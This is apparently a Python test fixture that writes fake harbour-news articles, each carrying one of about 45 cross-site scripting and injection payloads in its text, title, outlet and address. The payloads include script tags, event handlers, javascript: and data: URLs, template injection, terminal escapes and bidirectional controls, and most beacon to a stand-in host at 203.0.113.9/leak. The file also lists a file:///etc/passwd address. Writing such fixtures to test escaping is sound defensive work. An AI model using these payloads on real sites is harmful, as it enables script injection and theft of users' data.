"""Articles written to harm a reader: markup, script addresses, bidirectional controls, terminal escapes."""

import json
from pathlib import Path

EVIL = "window.harmed=1;document.title='harmed';new Image().src='http://203.0.113.9/leak'"

PAYLOADS = (
    f"<script>{EVIL}</script>",
    f"<script type=module>{EVIL}</script>",
    f"</p></div></article></main><script>{EVIL}</script>",
    f"</textarea><script>{EVIL}</script>",
    f"</title><script>{EVIL}</script>",
    f"</template><script>{EVIL}</script>",
    f"--><script>{EVIL}</script><!--",
    f"]]><script>{EVIL}</script>",
    f"<scr<script>ipt>{EVIL}</scr</script>ipt>",
    f'<img src=x onerror="{EVIL}">',
    f"<img src=x onerror={EVIL}//",
    f'"><img src=x onerror="{EVIL}">',
    f'\'><img src=x onerror="{EVIL}">',
    f"<IMG SRC=x OnErRoR='{EVIL.replace(chr(39), '`')}'>",
    f"<img/src=x/onerror={EVIL}>",
    f'<svg onload="{EVIL}"></svg>',
    f"<svg><script>{EVIL}</script></svg>",
    f'<svg><animate onbegin="{EVIL}" attributeName=x dur=1s></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{EVIL}'></svg>#x\"/></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{EVIL}">',
    f'<body onload="{EVIL}">',
    f'<iframe srcdoc="<script>parent.{EVIL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{EVIL}"></iframe>',
    f'<object data="javascript:{EVIL}"></object>',
    f'<embed src="javascript:{EVIL}">',
    f'<a href="javascript:{EVIL}" autofocus onfocus="{EVIL}">click</a>',
    f'<input autofocus onfocus="{EVIL}">',
    f'<select autofocus onfocus="{EVIL}">',
    f'<textarea autofocus onfocus="{EVIL}">',
    f'<details open ontoggle="{EVIL}">',
    f'<video><source onerror="{EVIL}"></video>',
    f'<audio src=x onerror="{EVIL}">',
    f'<marquee onstart="{EVIL}">',
    f"<style>@import 'http://203.0.113.9/leak.css';*{{animation:a}}</style><p onanimationstart=\"{EVIL}\">",
    f"<link rel=stylesheet href='http://203.0.113.9/leak.css' onload=\"{EVIL}\">",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.9/leak'>",
    "<base href='http://203.0.113.9/'>",
    f'<form action="javascript:{EVIL}"><button>send</button></form>',
    f'<p style="background:url(http://203.0.113.9/leak)" onmouseover="{EVIL}">over</p>',
    f"{{{{constructor.constructor('{EVIL}')()}}}} ${{{EVIL}}} {{% include 'etc' %}}",
    f"[click](javascript:{EVIL}) ![x](http://203.0.113.9/leak)",
    f"&lt;script&gt;{EVIL}&lt;/script&gt; &#60;script&#62;",
    f"\\u003cscript\\u003e{EVIL}\\u003c/script\\u003e",
    f"\x1b]0;harmed\x07\x1b[31m\x1b]8;;javascript:{EVIL}\x1b\\link\x1b]8;;\x1b\\",
    f"\u202e\u2066<script>{EVIL}</script>\u2069\u202d",
)


def _as_address(payload: str) -> str:
    """Return a web address that holds the payload; the index refuses blanks and controls in one."""
    return "https://example.org/" + "".join(
        "/" if c.isspace() else c for c in payload if c.isprintable() or c.isspace()
    )


ADDRESSES = tuple(map(_as_address, PAYLOADS))

NO_ADDRESSES = (
    f"javascript:{EVIL}",
    f"JaVaScRiPt:{EVIL}",
    f" javascript:{EVIL}",
    f"java\tscript:{EVIL}",
    f"data:text/html,<script>{EVIL}</script>",
    f"vbscript:{EVIL}",
    "//203.0.113.9/leak",
    "file:///etc/passwd",
)

# Astral characters, joined emoji and combining marks: each has another length in UTF-16 or on the screen.
ASTRAL = "🎉👩‍👩‍👧‍👦🇱🇺𝔘𝔫𝔦 e\u0301o\u0302u\u0308 ﬁ œuvre \u05d0\u05d1 \u202eenod\u202c\u200e\u200f\u061c 𐍈"
ZEPHYR = "Zephyria and Borealis signed the treaty of the northern lighthouses on 3 May 2021"


def write_hostile_articles(folder: Path) -> None:
    """Write one article for each payload, which also stands in its title, outlet and address."""
    folder.mkdir(parents=True)
    tables = []
    for n, payload in enumerate(PAYLOADS):
        name = f"payload-{n:02}.txt"
        (folder / name).write_text(_article(n, payload), "utf-8")
        tables.append(_table(name, payload, n))
    (folder / "zephyria.txt").write_text(_zephyria(), "utf-8")
    (folder / "articles.toml").write_text("\n".join(tables), "utf-8")


def _article(n: int, payload: str) -> str:
    return (
        f"The harbour master of quay {n} reported a strange inscription on a container this week. "
        f"The inscription on container {n} read {payload} and nobody knew why. "
        f"The police of quay {n} have opened an inquiry into the matter, said its spokesman.\n"
    )


def _table(name: str, payload: str, n: int) -> str:
    known = {
        "title": f"Container {n} {payload}",
        "outlet": f"Harbour News {payload}"[:190],
        "url": ADDRESSES[n],
        "language": "en",
    }
    # JSON strings are TOML strings, but for DEL and lone surrogates, which no payload holds.
    lines = "\n".join(f"{key} = {json.dumps(value, ensure_ascii=False)}" for key, value in known.items())
    return f'["{name}"]\n{lines}\n'


def _zephyria() -> str:
    return (
        f"{ASTRAL} Foreword of the chronicle {ASTRAL} by its editor, who likes ornaments. {ASTRAL}\r\n\r\n"
        f"The {ASTRAL} chronicle goes on with the weather of that spring. {ZEPHYR} {ASTRAL}, "
        f"in the presence of {ASTRAL} the two harbour masters. The feast lasted until morning. {ASTRAL}\n"
    )
